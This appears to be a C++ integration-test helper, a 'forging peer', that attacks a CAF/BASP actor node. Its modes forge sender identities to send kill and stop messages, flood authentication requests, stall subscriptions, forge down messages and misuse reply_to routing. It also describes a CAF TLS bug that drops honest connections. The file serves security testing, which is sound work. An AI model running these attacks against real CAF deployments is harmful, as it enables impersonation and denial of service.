// SPDX-FileCopyrightText: 2026 The sssn-actors developers
// SPDX-License-Identifier: BSD-3-Clause

// A forging peer for integration_tests/trust_boundary.cpp (issue 12): it
// speaks BASP itself, over plain TCP or TLS with a client certificate, and
// writes into its messages whatever source node and source actor it likes,
// as any peer that can connect can. Payloads are serialized with CAF's own
// serializer (our types registered), the BASP headers around them by hand.
//
//   forging_peer forged-local --port=N [--channel-actor=ID] [--count=3]
//                             [--kinds=wsKkS]
//   forging_peer borrow       --port=N --channel-actor=ID --victim-node=NODE
//                             --token=JWT [--count=3]
//   forging_peer auth-flood   --port=N --channel-actor=ID --token=JWT
//                             [--count=10000]
//   forging_peer reply-to     --port=N --channel-actor=ID --token=JWT
//   forging_peer stall        --port=N --channel-actor=ID --token=JWT
//                             [--hold=S]
//   forging_peer forged-down  --port=N --victim-node=NODE --victim-actor=ID
//                             [--count=1] [--hold=1]
//   forging_peer noise        --port=N [--count=1000]
//   forging_peer hello        --port=N [--abrupt=1]
// TLS: --tls-cert=FILE --tls-key=FILE --tls-ca=FILE (all three, or none).
// NODE is a node id as CAF prints it (`caf::to_string(node_id)`); ID an
// actor id of the node (the test knows its channel's from its handle).
//
// The modes, one per attack of issue 12:
//   - forged-local (1): messages whose source node is the node itself and
//     whose source actor is one of its registered actors (the directory,
//     or the channel), so that Debian's CAF delivers them with a real local
//     sender: `count` writes as "honest" without a token to the channel,
//     `count` `stop("admin")` to the channel and to the directory, and
//     `count` `kill` exit messages to the channel and to the directory
//     (`--kinds` picks some: w write, s stop channel, K kill channel, k kill
//     directory, S stop directory). Without --channel-actor it asks the
//     directory for the channel `compute-request` first.
//   - borrow (2): messages whose source node is the honest client's node
//     (NODE) and whose source actor is made up: `count` writes as "honest"
//     without a token, `count` writes as "honest" with `--token` (another
//     subject's valid write token), `count` reads as "honest" without one.
//   - auth-flood (3): `count` requests `authenticate(--token)`, each from a
//     made-up node id of its own; CAF routes the answers back through this
//     connection, and they are counted.
//   - reply-to (5): two requests written as the token's subject (`--token`
//     is a valid write token for subject "mallory") whose `reply_to` names
//     the node's own channel: one by name only, one also with the channel's
//     handle as the reply channel; their answers are reported.
//   - stall (6): subscribes as "staller" (`--token`, a read token for that
//     subject) with a subscriber of this process, then never returns
//     credit, holding the connection for `hold` seconds and counting the
//     pushes that arrive.
//   - forged-down (4): `count` BASP down messages saying that actor
//     `victim-actor` of node `victim-node` is down.
//   - noise (7): `count` messages the directory does not understand, from
//     this peer itself (no forgery): the node logs a warning for each.
//   - hello: the handshake only, then a close: graceful (a TLS close_notify,
//     as everywhere else) or, with --abrupt=1, without one, as a killed
//     process closes (see `connection::close_gracefully`).
// A held connection (stall, forged-down) ends early, gracefully, on
// SIGTERM.
//
// Output (stdout), `<key> <number>` lines, others as `<key>: <text>`, then
// `done`; `held` once the attack is sent and the connection is held (stall,
// forged-down). Exit codes: 0 done, 1 could not connect or set up, 2 usage.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include <algorithm>
#include <atomic>
#include <csignal>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstring>
#include <iostream>
#include <map>
#include <optional>
#include <random>
#include <set>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include <caf/all.hpp>
#include <caf/io/basp/header.hpp>
#include <caf/io/basp/message_type.hpp>

#include "sssn/all.hpp"

#include "peer_tools.hpp"

using namespace std::chrono_literals;
using steady = std::chrono::steady_clock;
namespace basp = caf::io::basp;

namespace {

// -- options --------------------------------------------------------------------

struct options {
  std::string mode;
  std::string host = "127.0.0.1";
  int port = 0;
  std::string tls_cert;
  std::string tls_key;
  std::string tls_ca;
  caf::actor_id channel_actor = 0;
  std::string victim_node;
  caf::actor_id victim_actor = 0;
  std::string token;
  int count = -1;
  int hold = -1;
  std::string kinds;
  bool abrupt = false;
};

/// Set by SIGTERM: the held connection is closed (gracefully) and the
/// program ends.
std::atomic<bool> stop_requested{false};

void on_sigterm(int) {
  stop_requested = true;
}

std::optional<options> parse(int argc, char** argv) {
  options result;
  auto ok = peer_tools::parse_args(
    argc, argv, result.mode,
    [&](const std::string& key, const std::string& value) {
      if (key == "port")
        result.port = std::stoi(value);
      else if (key == "host")
        result.host = value;
      else if (key == "tls-cert")
        result.tls_cert = value;
      else if (key == "tls-key")
        result.tls_key = value;
      else if (key == "tls-ca")
        result.tls_ca = value;
      else if (key == "channel-actor")
        result.channel_actor = std::stoull(value);
      else if (key == "victim-node")
        result.victim_node = value;
      else if (key == "victim-actor")
        result.victim_actor = std::stoull(value);
      else if (key == "token")
        result.token = value;
      else if (key == "count")
        result.count = std::stoi(value);
      else if (key == "hold")
        result.hold = std::stoi(value);
      else if (key == "kinds")
        result.kinds = value;
      else if (key == "abrupt")
        result.abrupt = value == "1";
      else
        return false;
      return true;
    });
  if (!ok)
    return std::nullopt;
  if (result.port <= 0 || result.port > 65535)
    return std::nullopt;
  auto tls = !result.tls_cert.empty() + !result.tls_key.empty()
             + !result.tls_ca.empty();
  if (tls != 0 && tls != 3)
    return std::nullopt;
  return result;
}

// -- the connection: TCP or TLS, non-blocking, bounded waits --------------------

class connection {
public:
  ~connection() {
    if (fd_ >= 0 && !abrupt && !eof_)
      close_gracefully();
    if (ssl_ != nullptr)
      SSL_free(ssl_);
    if (ctx_ != nullptr)
      SSL_CTX_free(ctx_);
    if (fd_ >= 0)
      close(fd_);
  }

  /// Connects (within 2 s) and, with TLS settings, completes the TLS
  /// handshake (within 5 s). Throws on failure.
  void open(const options& opts) {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd_ < 0)
      throw std::runtime_error("socket failed");
    sockaddr_in addr;
    std::memset(&addr, 0, sizeof(addr));
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(opts.port));
    if (inet_pton(AF_INET, opts.host.c_str(), &addr.sin_addr) != 1)
      throw std::runtime_error("bad host " + opts.host);
    if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
      if (errno != EINPROGRESS)
        throw std::runtime_error("cannot connect");
      pollfd pfd{fd_, POLLOUT, 0};
      int err = 0;
      socklen_t len = sizeof(err);
      if (poll(&pfd, 1, 2000) != 1
          || getsockopt(fd_, SOL_SOCKET, SO_ERROR, &err, &len) != 0
          || err != 0)
        throw std::runtime_error("cannot connect within 2 s");
    }
    if (opts.tls_cert.empty())
      return;
    ctx_ = SSL_CTX_new(TLS_client_method());
    if (ctx_ == nullptr
        || SSL_CTX_use_certificate_chain_file(ctx_, opts.tls_cert.c_str()) != 1
        || SSL_CTX_use_PrivateKey_file(ctx_, opts.tls_key.c_str(),
                                       SSL_FILETYPE_PEM)
             != 1
        || SSL_CTX_load_verify_locations(ctx_, opts.tls_ca.c_str(), nullptr)
             != 1)
      throw std::runtime_error("cannot load the TLS files");
    SSL_CTX_set_verify(ctx_, SSL_VERIFY_PEER, nullptr);
    ssl_ = SSL_new(ctx_);
    if (ssl_ == nullptr || SSL_set_fd(ssl_, fd_) != 1)
      throw std::runtime_error("SSL_new failed");
    SSL_set_mode(ssl_, SSL_MODE_ENABLE_PARTIAL_WRITE
                         | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    auto deadline = steady::now() + 5s;
    for (;;) {
      auto rc = SSL_connect(ssl_);
      if (rc == 1)
        break;
      auto err = SSL_get_error(ssl_, rc);
      if ((err != SSL_ERROR_WANT_READ && err != SSL_ERROR_WANT_WRITE)
          || steady::now() >= deadline)
        throw std::runtime_error("TLS handshake failed");
      pollfd pfd{fd_,
                 static_cast<short>(err == SSL_ERROR_WANT_READ ? POLLIN
                                                               : POLLOUT),
                 0};
      poll(&pfd, 1, 100);
    }
  }

  /// Close a TLS connection without a close_notify (as a killed process
  /// does).
  bool abrupt = false;

  /// Whether the node closed the connection (or it failed).
  bool closed() const {
    return eof_;
  }

  /// Reads what arrives within `timeout` (at least what is there now).
  void pump(std::chrono::milliseconds timeout) {
    if (eof_)
      return;
    if (!(ssl_ != nullptr && SSL_pending(ssl_) > 0)) {
      pollfd pfd{fd_, POLLIN, 0};
      if (poll(&pfd, 1, static_cast<int>(timeout.count())) != 1)
        return;
    }
    char buf[16384];
    for (int round = 0; round < 64 && !eof_; ++round) {
      auto n = read_some(buf, sizeof(buf));
      if (n <= 0)
        return;
      in_.append(buf, static_cast<size_t>(n));
    }
  }

  /// Writes all of `bytes` within `timeout`, reading meanwhile (so that a
  /// node writing to us never waits on our reading). Throws on failure.
  void write_all(const std::string& bytes,
                 std::chrono::milliseconds timeout = 10000ms) {
    size_t done = 0;
    auto deadline = steady::now() + timeout;
    while (done < bytes.size()) {
      if (eof_)
        throw std::runtime_error("the node closed the connection");
      auto n = write_some(bytes.data() + done, bytes.size() - done);
      if (n > 0) {
        done += static_cast<size_t>(n);
        continue;
      }
      if (steady::now() >= deadline)
        throw std::runtime_error("write timed out");
      pollfd pfd{fd_, POLLIN | POLLOUT, 0};
      poll(&pfd, 1, 50);
      if (pfd.revents & POLLIN)
        pump(0ms);
    }
  }

  /// Takes one complete BASP frame off the input, if there is one.
  bool next_frame(caf::actor_system& sys, basp::header& hdr,
                  std::vector<char>& payload) {
    if (in_.size() < basp::header_size)
      return false;
    std::vector<char> head(in_.begin(), in_.begin() + basp::header_size);
    caf::binary_deserializer source{sys, head};
    if (auto err = source(hdr))
      throw std::runtime_error("unreadable BASP header");
    if (hdr.payload_len > 64 * 1024 * 1024)
      throw std::runtime_error("BASP payload too large");
    if (in_.size() < basp::header_size + hdr.payload_len)
      return false;
    payload.assign(in_.begin() + basp::header_size,
                   in_.begin() + basp::header_size + hdr.payload_len);
    in_.erase(0, basp::header_size + hdr.payload_len);
    return true;
  }

  /// Closes as a well-behaved client does: reads what the node sent
  /// (unread data makes the kernel reset the connection), a TLS
  /// close_notify, then a FIN, and reads until the node closes too (at
  /// most 2 s).
  ///
  /// FINDING (see trust_boundary.cpp,
  /// an_abrupt_tls_close_drops_no_other_connection): CAF 0.17.6's OpenSSL
  /// module does not clear OpenSSL's per-thread error queue when a TLS
  /// connection fails, so a TLS connection that ends without a
  /// close_notify (a killed process, a reset) leaves an error there that
  /// the next TLS read of the multiplexer thread takes for its own: the
  /// node drops another, honest, connection. This peer therefore closes
  /// gracefully unless told to close abruptly.
  void close_gracefully() {
    pump(50ms);
    if (ssl_ != nullptr)
      SSL_shutdown(ssl_);
    ::shutdown(fd_, SHUT_WR);
    auto deadline = steady::now() + 2s;
    while (!eof_ && steady::now() < deadline) {
      pump(100ms);
      in_.clear();
    }
  }

private:
  long read_some(char* buf, size_t n) {
    if (ssl_ == nullptr) {
      auto r = recv(fd_, buf, n, 0);
      if (r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK
                     && errno != EINTR))
        eof_ = true;
      return r;
    }
    auto r = SSL_read(ssl_, buf, static_cast<int>(n));
    if (r > 0)
      return r;
    auto err = SSL_get_error(ssl_, r);
    if (err != SSL_ERROR_WANT_READ && err != SSL_ERROR_WANT_WRITE)
      eof_ = true;
    return -1;
  }

  long write_some(const char* buf, size_t n) {
    if (ssl_ == nullptr) {
      auto r = send(fd_, buf, n, MSG_NOSIGNAL);
      if (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
        eof_ = true;
      return r;
    }
    auto r = SSL_write(ssl_, buf, static_cast<int>(std::min<size_t>(n, 16384)));
    if (r > 0)
      return r;
    auto err = SSL_get_error(ssl_, r);
    if (err != SSL_ERROR_WANT_READ && err != SSL_ERROR_WANT_WRITE)
      eof_ = true;
    return -1;
  }

  int fd_ = -1;
  SSL_CTX* ctx_ = nullptr;
  SSL* ssl_ = nullptr;
  std::string in_;
  bool eof_ = false;
};

// -- BASP -------------------------------------------------------------------------

using peer_tools::frame;
using peer_tools::serialize;

/// What a peer learns in the handshake.
struct node_info {
  caf::node_id node;
  caf::actor_id published = 0;
};

/// Reads the node's server handshake (within 5 s) and answers with a client
/// handshake naming this process's node.
node_info handshake(caf::actor_system& sys, connection& conn) {
  auto deadline = steady::now() + 5s;
  basp::header hdr;
  std::vector<char> payload;
  while (!conn.next_frame(sys, hdr, payload)) {
    if (conn.closed() || steady::now() >= deadline)
      throw std::runtime_error("no server handshake within 5 s");
    conn.pump(100ms);
  }
  if (hdr.operation != basp::message_type::server_handshake)
    throw std::runtime_error("the node sent no server handshake");
  node_info result;
  std::vector<std::string> app_ids;
  std::set<std::string> sigs;
  caf::binary_deserializer source{sys, payload};
  if (auto err = source(result.node, app_ids, result.published, sigs))
    throw std::runtime_error("unreadable server handshake");
  auto me = sys.node();
  basp::header client{basp::message_type::client_handshake, 0, 0, 0,
                      caf::invalid_actor_id, caf::invalid_actor_id};
  conn.write_all(frame(sys, client, serialize(sys, me)));
  return result;
}

/// A routed BASP message from (src_node, src_actor) to (dst_node,
/// dst_actor) carrying `msg`, with message id `mid`.
std::string routed(caf::actor_system& sys, caf::node_id src_node,
                   caf::actor_id src_actor, caf::node_id dst_node,
                   caf::actor_id dst_actor, caf::message_id mid,
                   caf::message msg) {
  std::vector<caf::strong_actor_ptr> stages;
  basp::header hdr{basp::message_type::routed_message, 0, 0,
                   mid.integer_value(), src_actor, dst_actor};
  return frame(sys, hdr, serialize(sys, src_node, dst_node, stages, msg));
}

/// An answer of the node to one of our requests.
struct answer {
  bool ok = false;     // a value, not an error
  std::string text;    // the error's message, or the value rendered
  caf::message value;
};

/// Reads frames for up to `timeout`, collecting answers to requests (keyed
/// by request id) until `want` of them have come; returns how many frames
/// of other kinds (pushes, CAF's own) arrived.
size_t collect(caf::actor_system& sys, connection& conn,
               std::map<uint64_t, answer>& answers, size_t want,
               steady::duration timeout) {
  auto deadline = steady::now() + timeout;
  size_t others = 0;
  basp::header hdr;
  std::vector<char> payload;
  for (;;) {
    while (conn.next_frame(sys, hdr, payload)) {
      auto mid = caf::make_message_id(hdr.operation_data);
      if ((hdr.operation != basp::message_type::routed_message
           && hdr.operation != basp::message_type::direct_message)
          || !mid.is_response()) {
        ++others;
        continue;
      }
      caf::binary_deserializer source{sys, payload};
      caf::node_id src_node;
      caf::node_id dst_node;
      std::vector<caf::strong_actor_ptr> stages;
      caf::message msg;
      caf::error err;
      if (hdr.operation == basp::message_type::routed_message)
        err = source(src_node, dst_node);
      if (!err)
        err = source(stages, msg);
      answer a;
      if (err) {
        a.text = "unreadable answer: " + sys.render(err);
      } else if (msg.match_elements<caf::error>()) {
        a.text = sssn::error_message(msg.get_as<caf::error>(0));
      } else {
        a.ok = true;
        a.text = caf::to_string(msg);
        a.value = msg;
      }
      answers[mid.request_id().integer_value()] = std::move(a);
    }
    if (answers.size() >= want || conn.closed() || steady::now() >= deadline
        || stop_requested)
      return others;
    conn.pump(50ms);
  }
}

/// Prints "<key>: <text>" with the text on one line.
void say(const std::string& key, std::string text) {
  std::replace(text.begin(), text.end(), '\n', ' ');
  std::cout << key << ": " << text << std::endl;
}

/// Keeps the connection open for `hold` seconds, reading (and counting)
/// what comes; reports whether the node closed it.
void hold_and_report(caf::actor_system& sys, connection& conn, int hold,
                     const char* counted) {
  std::cout << "held" << std::endl;
  std::map<uint64_t, answer> ignored;
  auto frames = collect(sys, conn, ignored, SIZE_MAX,
                        std::chrono::seconds{std::max(hold, 0)});
  std::cout << counted << ' ' << frames << "\nclosed " << (conn.closed() ? 1 : 0)
            << std::endl;
}

/// An actor of this process that takes everything and does nothing: the
/// source of our honest-looking requests and the subscriber that never
/// returns credit. The node sends to it through our connection, which we
/// read ourselves, so it never sees a thing.
caf::actor spawn_sink(caf::actor_system& sys) {
  return sys.spawn([](caf::event_based_actor* self) -> caf::behavior {
    self->set_default_handler(caf::drop);
    return {[](int) {}};
  });
}

sssn::content compute(double a, double b) {
  return sssn::content{sssn::json{{"a", a}, {"b", b}}};
}

/// Asks the node's directory (as ourselves, honestly) for the actor id of
/// channel `id`: the id is the first field of the handle in the answer,
/// after the message's type names (we cannot load the handle itself
/// without a proxy registry).
caf::actor_id lookup_channel(caf::actor_system& sys, connection& conn,
                             const node_info& node, const std::string& id) {
  auto sink = sys.spawn([](caf::event_based_actor* self) -> caf::behavior {
    self->set_default_handler(caf::drop);
    return {[](int) {}};
  });
  basp::header hdr{basp::message_type::routed_message, 0, 0,
                   caf::make_message_id(1000000).integer_value(), sink.id(),
                   node.published};
  std::vector<caf::strong_actor_ptr> stages;
  auto src = sys.node();
  auto dst = node.node;
  auto msg = caf::make_message(sssn::lookup_atom::value, id);
  conn.write_all(frame(sys, hdr, serialize(sys, src, dst, stages, msg)));
  auto deadline = steady::now() + 5s;
  std::vector<char> payload;
  for (;;) {
    while (conn.next_frame(sys, hdr, payload)) {
      auto mid = caf::make_message_id(hdr.operation_data);
      if (!mid.is_response()
          || mid.request_id().integer_value() != 1000000)
        continue;
      caf::binary_deserializer source{sys, payload};
      caf::node_id a;
      caf::node_id b;
      uint16_t nr = 0;
      std::string names;
      caf::actor_id aid = 0;
      if (hdr.operation == basp::message_type::routed_message)
        source(a, b);
      if (source(stages, nr, names, aid) || aid == 0)
        throw std::runtime_error("no channel '" + id + "' in the lookup answer");
      caf::anon_send_exit(sink, caf::exit_reason::user_shutdown);
      return aid;
    }
    if (conn.closed() || steady::now() >= deadline)
      throw std::runtime_error("no answer to the lookup within 5 s");
    conn.pump(50ms);
  }
}

// -- the attacks --------------------------------------------------------------------

struct peer_config : sssn::config {
  peer_config() {
    // No TLS for CAF here: we speak TLS ourselves.
  }
};

int forged_local(caf::actor_system& sys, connection& conn,
                 const node_info& node, const options& opts) {
  auto n = opts.count > 0 ? opts.count : 3;
  auto dir = node.published;
  auto ch = opts.channel_actor != 0
              ? opts.channel_actor
              : lookup_channel(sys, conn, node, "compute-request");
  auto kinds = opts.kinds.empty() ? std::string{"wsKkS"} : opts.kinds;
  auto want = [&](char c) { return kinds.find(c) != std::string::npos; };
  auto async = caf::make_message_id();
  auto kill = [] {
    return caf::make_message(
      caf::exit_msg{caf::actor_addr{}, caf::make_error(caf::exit_reason::kill)});
  };
  for (int i = 0; i < n; ++i) {
    // Source: the node itself and its directory (or channel): on Debian's
    // CAF a real local sender.
    if (want('w'))
      conn.write_all(routed(sys, node.node, dir, node.node, ch, async,
                            caf::make_message(sssn::write_atom::value,
                                              std::string{"honest"},
                                              compute(1, 2))));
    if (want('s'))
      conn.write_all(routed(sys, node.node, dir, node.node, ch, async,
                            caf::make_message(sssn::stop_atom::value,
                                              std::string{"admin"})));
    if (want('K'))
      conn.write_all(routed(sys, node.node, dir, node.node, ch, async, kill()));
    if (want('k'))
      conn.write_all(routed(sys, node.node, ch, node.node, dir, async, kill()));
    if (want('S'))
      conn.write_all(routed(sys, node.node, ch, node.node, dir, async,
                            caf::make_message(sssn::stop_atom::value,
                                              std::string{"admin"})));
  }
  std::cout << "channel-actor " << ch << std::endl;
  std::cout << "sent forged-local-write " << n << "\nsent forged-local-stop-channel "
            << n << "\nsent forged-local-kill-channel " << n
            << "\nsent forged-local-kill-directory " << n
            << "\nsent forged-local-stop-directory " << n << "\nsent total "
            << 5 * n << std::endl;
  // Let the node take them before the connection closes.
  std::map<uint64_t, answer> ignored;
  collect(sys, conn, ignored, SIZE_MAX, 1s);
  std::cout << "closed " << (conn.closed() ? 1 : 0) << std::endl;
  return 0;
}

int borrow(caf::actor_system& sys, connection& conn, const node_info& node,
           const options& opts) {
  caf::node_id victim;
  if (opts.channel_actor == 0 || opts.victim_node.empty()
      || caf::parse(opts.victim_node, victim) || victim == caf::none
      || opts.token.empty()) {
    std::cerr << "borrow needs --channel-actor, --victim-node and --token\n";
    return 2;
  }
  auto n = opts.count > 0 ? opts.count : 3;
  // An actor id of the victim's node that no actor there has (yet): the
  // node's answers go to the victim's node, where they are dropped.
  caf::actor_id made_up = 0x7fffff00;
  auto async = caf::make_message_id();
  auto ch = opts.channel_actor;
  for (int i = 0; i < n; ++i) {
    conn.write_all(routed(sys, victim, made_up, node.node, ch, async,
                          caf::make_message(sssn::write_atom::value,
                                            std::string{"honest"},
                                            compute(3, 4))));
    conn.write_all(routed(
      sys, victim, made_up, node.node, ch, async,
      caf::make_message(sssn::write_atom::value,
                        std::string{"honest"} + '\0' + opts.token,
                        compute(5, 6))));
    conn.write_all(routed(sys, victim, made_up, node.node, ch, async,
                          caf::make_message(sssn::read_atom::value,
                                            std::string{"honest"},
                                            uint32_t{10}, std::string{})));
  }
  std::cout << "sent borrow-write-no-token " << n
            << "\nsent borrow-write-other-token " << n
            << "\nsent borrow-read-no-token " << n << "\nsent total " << 3 * n
            << std::endl;
  std::map<uint64_t, answer> ignored;
  collect(sys, conn, ignored, SIZE_MAX, 1s);
  std::cout << "closed " << (conn.closed() ? 1 : 0) << std::endl;
  return 0;
}

int auth_flood(caf::actor_system& sys, connection& conn, const node_info& node,
               const options& opts) {
  if (opts.channel_actor == 0 || opts.token.empty()) {
    std::cerr << "auth-flood needs --channel-actor and --token\n";
    return 2;
  }
  auto n = opts.count > 0 ? opts.count : 10000;
  std::mt19937_64 rng{std::random_device{}()};
  caf::node_id::default_data::host_id_type host;
  for (auto& x : host)
    x = static_cast<uint8_t>(rng());
  auto t0 = steady::now();
  std::map<uint64_t, answer> answers;
  for (int i = 1; i <= n; ++i) {
    // A node id of its own for every request: another process id, and
    // (every 1,000) another host.
    if (i % 1000 == 0)
      for (auto& x : host)
        x = static_cast<uint8_t>(rng());
    auto made_up = caf::make_node_id(static_cast<uint32_t>(100000 + i), host);
    conn.write_all(routed(sys, made_up, 1, node.node, opts.channel_actor,
                          caf::make_message_id(static_cast<uint64_t>(i)),
                          caf::make_message(sssn::auth_atom::value,
                                            opts.token)));
    if (i % 256 == 0)
      collect(sys, conn, answers, SIZE_MAX, 0s);
  }
  std::cout << "sent auth-flood " << n << std::endl;
  collect(sys, conn, answers, static_cast<size_t>(n), 60s);
  size_t ok = 0;
  std::string first_refusal;
  for (auto& [id, a] : answers) {
    if (a.ok)
      ++ok;
    else if (first_refusal.empty())
      first_refusal = a.text;
  }
  std::cout << "auth-ok " << ok << "\nauth-refused " << answers.size() - ok
            << "\nauth-unanswered " << static_cast<size_t>(n) - answers.size()
            << "\nauth-ms "
            << std::chrono::duration_cast<std::chrono::milliseconds>(
                 steady::now() - t0)
                 .count()
            << std::endl;
  if (!first_refusal.empty())
    say("auth-first-refusal", first_refusal);
  std::cout << "closed " << (conn.closed() ? 1 : 0) << std::endl;
  return 0;
}

/// Replaces the only occurrence of `from` in `buf` by `to` (same length).
void replace_once(std::vector<char>& buf, const std::vector<char>& from,
                  const std::vector<char>& to) {
  if (from.size() != to.size())
    throw std::runtime_error("handles of different sizes");
  auto i = std::search(buf.begin(), buf.end(), from.begin(), from.end());
  if (i == buf.end()
      || std::search(i + 1, buf.end(), from.begin(), from.end()) != buf.end())
    throw std::runtime_error("the handle is not in the payload exactly once");
  std::copy(to.begin(), to.end(), i);
}

int reply_to(caf::actor_system& sys, connection& conn, const node_info& node,
             const options& opts) {
  if (opts.channel_actor == 0 || opts.token.empty()) {
    std::cerr << "reply-to needs --channel-actor and --token\n";
    return 2;
  }
  auto sink = spawn_sink(sys);
  auto principal = std::string{"mallory"} + '\0' + opts.token;
  auto request = [&](const std::string& correlation) {
    return sssn::channel_message::builder{}
      .sender_id("mallory")
      .content(compute(1, 2))
      .correlation_id(correlation)
      .reply_to("compute-request")
      .build();
  };
  // 1. reply_to names the node's channel, no reply handle.
  conn.write_all(routed(sys, sys.node(), sink.id(), node.node,
                        opts.channel_actor, caf::make_message_id(1),
                        caf::make_message(sssn::write_atom::value, principal,
                                          request("forged-reply-1"),
                                          sssn::write_options{})));
  // 2. And the channel's own handle as the reply channel. A handle is
  // written as (actor id, node id): we serialize the message with the
  // handle of our sink in its place and then write the channel's (actor id,
  // node id) over it.
  sssn::write_options with_handle;
  with_handle.reply_channel = caf::actor_cast<sssn::channel_actor>(sink);
  std::vector<caf::strong_actor_ptr> stages;
  auto msg = caf::make_message(sssn::write_atom::value, principal,
                               request("forged-reply-2"), with_handle);
  auto src = sys.node();
  auto dst = node.node;
  auto payload = serialize(sys, src, dst, stages, msg);
  auto sink_id = sink.id();
  auto ch_id = opts.channel_actor;
  auto ours = sys.node();
  replace_once(payload, serialize(sys, sink_id, ours),
               serialize(sys, ch_id, dst));
  basp::header hdr{basp::message_type::routed_message, 0, 0,
                   caf::make_message_id(2).integer_value(), sink.id(),
                   opts.channel_actor};
  conn.write_all(frame(sys, hdr, payload));
  std::cout << "sent reply-to 2" << std::endl;
  std::map<uint64_t, answer> answers;
  collect(sys, conn, answers, 2, 10s);
  auto report = [&](uint64_t id, const char* key) {
    auto i = answers.find(id);
    if (i == answers.end()) {
      std::cout << key << "-unanswered 1" << std::endl;
      return;
    }
    std::cout << key << (i->second.ok ? "-accepted 1" : "-refused 1")
              << std::endl;
    say(key, i->second.text);
  };
  report(1, "reply-to-name");
  report(2, "reply-to-handle");
  std::cout << "closed " << (conn.closed() ? 1 : 0) << std::endl;
  caf::anon_send_exit(sink, caf::exit_reason::user_shutdown);
  return 0;
}

int stall(caf::actor_system& sys, connection& conn, const node_info& node,
          const options& opts) {
  if (opts.channel_actor == 0 || opts.token.empty()) {
    std::cerr << "stall needs --channel-actor and --token\n";
    return 2;
  }
  auto sink = spawn_sink(sys);
  sssn::subscription sub;
  conn.write_all(routed(
    sys, sys.node(), sink.id(), node.node, opts.channel_actor,
    caf::make_message_id(1),
    caf::make_message(sssn::subscribe_atom::value,
                      std::string{"staller"} + '\0' + opts.token,
                      caf::actor_cast<sssn::subscriber_actor>(sink), sub)));
  std::map<uint64_t, answer> answers;
  auto pushes = collect(sys, conn, answers, 1, 10s);
  if (answers.count(1) == 0) {
    std::cout << "subscribe-unanswered 1" << std::endl;
  } else {
    std::cout << (answers[1].ok ? "subscribed 1" : "subscribe-refused 1")
              << std::endl;
    if (!answers[1].ok)
      say("subscribe", answers[1].text);
  }
  // Never a credit: only read.
  std::cout << "held" << std::endl;
  pushes += collect(sys, conn, answers, SIZE_MAX,
                    std::chrono::seconds{std::max(opts.hold, 0)});
  std::cout << "frames " << pushes << "\nclosed " << (conn.closed() ? 1 : 0)
            << std::endl;
  caf::anon_send_exit(sink, caf::exit_reason::user_shutdown);
  return 0;
}

int forged_down(caf::actor_system& sys, connection& conn,
                const node_info& node, const options& opts) {
  caf::node_id victim;
  if (opts.victim_node.empty() || opts.victim_actor == 0
      || caf::parse(opts.victim_node, victim) || victim == caf::none) {
    std::cerr << "forged-down needs --victim-node and --victim-actor\n";
    return 2;
  }
  auto n = opts.count > 0 ? opts.count : 1;
  auto reason = caf::make_error(caf::exit_reason::kill);
  for (int i = 0; i < n; ++i) {
    basp::header hdr{basp::message_type::down_message, 0, 0, 0,
                     opts.victim_actor, caf::invalid_actor_id};
    auto dst = node.node;
    conn.write_all(frame(sys, hdr, serialize(sys, victim, dst, reason)));
  }
  std::cout << "sent forged-down " << n << std::endl;
  hold_and_report(sys, conn, opts.hold >= 0 ? opts.hold : 1, "frames");
  return 0;
}

int noise(caf::actor_system& sys, connection& conn, const node_info& node,
          const options& opts) {
  // Messages the directory does not understand, from ourselves (no
  // forgery): each makes the node log a warning, on every CAF.
  auto sink = spawn_sink(sys);
  auto n = opts.count > 0 ? opts.count : 1000;
  std::map<uint64_t, answer> ignored;
  for (int i = 0; i < n; ++i) {
    conn.write_all(routed(sys, sys.node(), sink.id(), node.node,
                          node.published, caf::make_message_id(),
                          caf::make_message(sssn::stop_atom::value,
                                            std::string(200, 'x'))));
    if (i % 64 == 0)
      collect(sys, conn, ignored, SIZE_MAX, 0s);
  }
  std::cout << "sent noise " << n << std::endl;
  collect(sys, conn, ignored, SIZE_MAX, 1s);
  caf::anon_send_exit(sink, caf::exit_reason::user_shutdown);
  return 0;
}

int hello(caf::actor_system&, connection& conn, const node_info&,
          const options& opts) {
  conn.abrupt = opts.abrupt;
  std::cout << "closing " << (opts.abrupt ? "abruptly" : "gracefully")
            << std::endl;
  return 0;
}

} // namespace

int main(int argc, char** argv) {
  auto opts = parse(argc, argv);
  if (!opts) {
    std::cerr << "usage: forging_peer forged-local|borrow|auth-flood|"
                 "reply-to|stall|forged-down|noise|hello --port=N [--host=H] "
                 "[--tls-cert=F --tls-key=F --tls-ca=F] [--channel-actor=ID] "
                 "[--victim-node=NODE] [--victim-actor=ID] [--token=JWT] "
                 "[--count=N] [--hold=S] [--kinds=wsKkS] [--abrupt=1]\n";
    return 2;
  }
  std::signal(SIGTERM, on_sigterm);
  try {
    peer_config cfg;
    caf::actor_system sys{cfg};
    connection conn;
    conn.open(*opts);
    auto node = handshake(sys, conn);
    std::cout << "connected" << std::endl;
    int rc = 2;
    auto& m = opts->mode;
    if (m == "forged-local")
      rc = forged_local(sys, conn, node, *opts);
    else if (m == "borrow")
      rc = borrow(sys, conn, node, *opts);
    else if (m == "auth-flood")
      rc = auth_flood(sys, conn, node, *opts);
    else if (m == "reply-to")
      rc = reply_to(sys, conn, node, *opts);
    else if (m == "stall")
      rc = stall(sys, conn, node, *opts);
    else if (m == "forged-down")
      rc = forged_down(sys, conn, node, *opts);
    else if (m == "noise")
      rc = noise(sys, conn, node, *opts);
    else if (m == "hello")
      rc = hello(sys, conn, node, *opts);
    else
      std::cerr << "unknown mode: " << m << '\n';
    if (rc == 0)
      std::cout << "done" << std::endl;
    return rc;
  } catch (std::exception& ex) {
    std::cout << "failed: " << ex.what() << std::endl;
    return 1;
  }
}
